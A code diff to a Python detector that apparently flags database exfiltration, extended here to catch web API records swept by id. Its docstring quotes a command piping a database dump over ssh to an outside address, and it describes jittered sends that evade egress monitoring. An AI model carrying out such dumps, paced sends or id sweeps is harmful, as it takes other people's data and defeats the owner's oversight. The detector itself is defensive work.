@@ -20,7 +20,11 @@ What it catches
     (`| ssh u@203.0.113.5 'cat > x.sql.gz'`). Also, in a
     response, a dump sent anywhere (a post, a socket, a
     storage service's SDK) with random waits between the sends: paced to stay under the
-    owner's egress monitoring.
+    owner's egress monitoring. Also in a response, as a part: a web API's records swept by id,
+    every id of a long numbered range put into a record's path (`Capability.ID_SWEEP`,
+    `id_sweeps.py`): an API that answers for any id gives all its users' records to whoever
+    walks them. A backfill of one's own records walks ids the same way, so the request tells;
+    the records serve whatever it names (another's orders read, a competitor's data copied).
 
 Why it is a redline (RL-EXFIL)
     A database's rows are other people's data; streaming all of them to an address nobody
@@ -47,10 +51,11 @@ Allowed instead
 from __future__ import annotations
 
 import re
+from dataclasses import replace
 
 from redline.redlines.capabilities import PRIVATE_IPV4, Capabilities
 from redline.redlines.capabilities import Capability as Cap
-from redline.redlines.registry import Detection, detector, supported
+from redline.redlines.registry import IN_A_RESPONSE, Detection, detector, strongest, supported
 
 _PUBLIC_ADDRESS = re.compile(
     rf"(?<![\d.])(?!127\.|0\.|{PRIVATE_IPV4}|169\.254\.)"
@@ -63,10 +68,26 @@ _PUBLIC_ADDRESS = re.compile(
 _SENDS = (Cap.NET_SEND, Cap.OBJECT_UPLOAD, Cap.PROVIDER_UPLOAD, Cap.NET_CONNECT)
 
 
-@detector("ACT-DATABASE-EXFIL", redline="RL-EXFIL")
+def _sweeps_records(found: Capabilities) -> bool:
+    """Records swept by id serve whatever the request names."""
+    return Cap.ID_SWEEP in found
+
+
+@detector("ACT-DATABASE-EXFIL", redline="RL-EXFIL", crosses_any=_sweeps_records)
 def database_exfil(found: Capabilities) -> Detection | None:
     """Database dump + upload or raw socket + a destination nobody named, in one command; or a
-    dump sent with random waits between the sends."""
+    dump sent with random waits between the sends; or, as a part, an API's records swept by id."""
+    swept = None
+    if Cap.ID_SWEEP in found:
+        swept = replace(
+            supported(found, IN_A_RESPONSE, (Cap.ID_SWEEP,), "a web API's records swept by id"),
+            own_alike=True,
+        )
+    return strongest(_dumped(found), swept)
+
+
+def _dumped(found: Capabilities) -> Detection | None:
+    """A database dump sent out (see `database_exfil`)."""
     sends = [c for c in _SENDS if c in found]
     if Cap.DATABASE_DUMP in found and Cap.JITTER in found and sends:
         # The dump sent at random intervals: the waits serve only to stay under the owner's
